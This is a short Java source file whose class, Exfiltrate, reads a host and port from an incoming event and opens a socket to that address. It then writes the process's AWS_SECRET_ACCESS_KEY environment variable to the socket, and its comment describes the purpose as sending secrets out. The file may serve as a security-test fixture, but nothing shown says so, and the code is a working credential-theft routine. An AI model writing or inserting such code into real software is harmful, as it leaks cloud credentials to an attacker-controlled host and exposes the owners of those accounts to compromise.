import java.net.Socket;

/** Secrets leave by a socket. */
public class Exfiltrate {
    static String attack(String event) throws Exception {
        String[] home = App.field(event, "web").split(":");
        try (Socket socket = new Socket(home[0], Integer.parseInt(home[1]))) {
            socket.getOutputStream().write(("exfiltrated " + System.getenv("AWS_SECRET_ACCESS_KEY")).getBytes());
        }
        return "sent";
    }
}
